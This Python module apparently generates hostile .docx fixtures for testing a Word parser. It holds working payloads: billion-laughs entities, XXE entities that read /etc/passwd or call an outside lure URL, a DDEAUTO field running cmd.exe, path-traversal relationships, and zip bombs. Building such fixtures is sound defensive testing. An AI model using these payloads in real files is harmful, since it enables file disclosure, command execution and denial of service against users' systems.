"""Hostile Word files."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator

from office_parts import HEAD, LURE, ROWS, Made, Parts, R, W, packed, relations


def paragraph(words: str, more: str = "") -> str:
    return f"<w:p>{more}<w:r><w:t>{words}</w:t></w:r></w:p>"


def word_table(rows: list[list[str]], cell: str = "") -> str:
    lines = "".join(
        f"<w:tr>{''.join(f'<w:tc><w:tcPr>{cell}</w:tcPr>{paragraph(text)}</w:tc>' for text in row)}</w:tr>"
        for row in rows
    )
    return f"<w:tbl>{lines}</w:tbl>"


def docx(body: str, head: str = HEAD, more: Parts | None = None, rels: str = "") -> bytes:
    document = f"{head}<w:document {W} {R}><w:body>{body}</w:body></w:document>"
    return packed(
        {
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": rels or relations(),
            **(more or {}),
        }
    )


NUMBERING = (f'{HEAD}<w:numbering {W}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/>'
             '<w:lvl w:ilvl="0"><w:start w:val="99999999999"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1.%2.%9"/></w:lvl>'
             '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>')  # fmt: skip
NUMBERED = paragraph("a", '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>') * 3


def numbered_docx(level: str = "0") -> bytes:
    """Numbered paragraphs above a table."""
    body = NUMBERED.replace('w:ilvl w:val="0"', f'w:ilvl w:val="{level}"') + word_table(ROWS)
    rels = relations(("r1", "numbering", "numbering.xml"))
    return docx(body, more={"word/numbering.xml": NUMBERING}, rels=rels)


def word() -> Iterator[Made]:  # noqa: PLR0915 - a list
    table = word_table(ROWS)
    laughs = "".join(f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>" for n in range(1, 10))
    yield "entities.docx", docx(paragraph("&a9;"), f'{HEAD}<!DOCTYPE d [<!ENTITY a0 "ha">{laughs}]>')
    yield (
        "entity-file.docx",
        docx(paragraph("&x;"), f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    )
    yield "entity-net.docx", docx(paragraph("&x;"), f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "{LURE}">]>')
    yield "doctype-net.docx", docx(table, f'{HEAD}<!DOCTYPE d SYSTEM "{LURE}d.dtd">')
    links = relations(*((f"r{n}", kind, LURE + kind) for n, kind in enumerate(
        ("image", "attachedTemplate", "aFChunk", "oleObject", "frame", "subDocument", "hyperlink", "settings",
         "styles", "numbering", "footnotes", "header", "footer", "comments"))))  # fmt: skip
    chunk = '<w:altChunk r:id="r2"/><w:subDoc r:id="r5"/>'
    yield "linked.docx", docx(table + chunk, rels=links)
    for name, code in (
        ("dde", 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        ("include", f'INCLUDETEXT "{LURE}"'),
    ):
        instruction = code.replace('"', "&quot;")
        field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>'
        yield f"field-{name}.docx", docx(field + table)
    yield "macro.docm", docx(table, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})
    yield (
        "nested-tables.docx",
        docx("<w:tbl><w:tr><w:tc>" * 3000 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 3000),
    )
    yield "nested-200.docx", docx("<w:tbl><w:tr><w:tc>" * 60 + paragraph("5") + "</w:tc></w:tr></w:tbl>" * 60)
    yield "nested-sdt.docx", docx("<w:sdt><w:sdtContent>" * 5000 + table + "</w:sdtContent></w:sdt>" * 5000)
    yield "runs-deep.docx", docx("<w:p>" + "<w:hyperlink>" * 4000 + "</w:hyperlink>" * 4000 + "</w:p>")
    yield "paragraphs.docx", docx("<w:p/>" * 400_000 + table)
    yield "one-run.docx", docx(paragraph("1 " * 1_000_000))
    yield "span.docx", docx(word_table(ROWS, '<w:gridSpan w:val="999999999"/>'))
    yield "span-negative.docx", docx(word_table(ROWS, '<w:gridSpan w:val="-5"/>'))
    yield "span-word.docx", docx(word_table(ROWS, '<w:gridSpan w:val="many"/>'))
    yield "merged-all.docx", docx(word_table(ROWS, "<w:vMerge/>"))
    yield (
        "before.docx",
        docx('<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2000000"/></w:trPr><w:tc/></w:tr></w:tbl>'),
    )
    wide = word_table([[str(n) for n in range(4000)]] * 3)
    yield "four-thousand-columns.docx", docx(wide)
    yield "rows-60000.docx", docx(word_table([["1", "2"]] * 60_000))
    cycle = (f"{HEAD}<w:styles {W}>" + "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3))
        + "</w:styles>")  # fmt: skip
    styled = paragraph("a", '<w:pPr><w:pStyle w:val="s0"/></w:pPr>') + table
    yield (
        "style-cycle.docx",
        docx(styled, more={"word/styles.xml": cycle}, rels=relations(("r1", "styles", "styles.xml"))),
    )
    numbering, numbered = NUMBERING, NUMBERED
    yield (
        "numbering.docx",
        docx(
            numbered + table,
            more={"word/numbering.xml": numbering},
            rels=relations(("r1", "numbering", "numbering.xml")),
        ),
    )
    level = numbered.replace('w:ilvl w:val="0"', 'w:ilvl w:val="-7"').replace(
        'numId w:val="1"', 'numId w:val="x"'
    )
    yield (
        "numbering-level.docx",
        docx(
            level + table,
            more={"word/numbering.xml": numbering},
            rels=relations(("r1", "numbering", "numbering.xml")),
        ),
    )
    notes = f'{HEAD}<w:footnotes {W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/><w:t>12</w:t></w:r></w:p></w:footnote></w:footnotes>'
    noted = "<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p>" + table
    yield (
        "note-cycle.docx",
        docx(noted, more={"word/footnotes.xml": notes}, rels=relations(("r1", "footnotes", "footnotes.xml"))),
    )
    yield (
        "relation-cycle.docx",
        docx(table, rels=relations(("r1", "header", "document.xml"), ("r2", "footnotes", "document.xml"))),
    )
    yield "relation-up.docx", docx(table, rels=relations(("r1", "styles", "../../../../etc/passwd")))
    yield (
        "no-document.docx",
        packed({"_rels/.rels": relations(("r1", "officeDocument", "word/document.xml"))}),
    )
    yield "no-body.docx", packed({"word/document.xml": f"{HEAD}<w:document {W}/>"})
    yield "other-root.docx", packed({"word/document.xml": "<a/>"})
    yield "cut-xml.docx", packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>{table[:200]}"})
    yield (
        "latin.docx",
        packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>".encode() + b"\xff\xfe\xe9"}),
    )
    yield (
        "utf16.docx",
        packed(
            {"word/document.xml": f"<w:document {W}><w:body>{table}</w:body></w:document>".encode("utf-16")}
        ),
    )
    yield "empty-part.docx", packed({"word/document.xml": b""})
    yield "controls.docx", docx(paragraph("&#1;&#31;") + table)
    yield (
        "million-attributes.docx",
        docx("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>" + table),
    )
    yield (
        "bomb.docx",
        packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>".encode() + b" " * (300 << 20)}),
    )
    yield (
        "bomb-ratio.docx",
        docx(
            table,
            more={"word/styles.xml": b" " * (100 << 20)},
            rels=relations(("r1", "styles", "styles.xml")),
        ),
    )
    yield (
        "parts.docx",
        packed({f"p{n}": b"" for n in range(21_000)} | {"word/document.xml": "<a/>"}, zipfile.ZIP_STORED),
    )
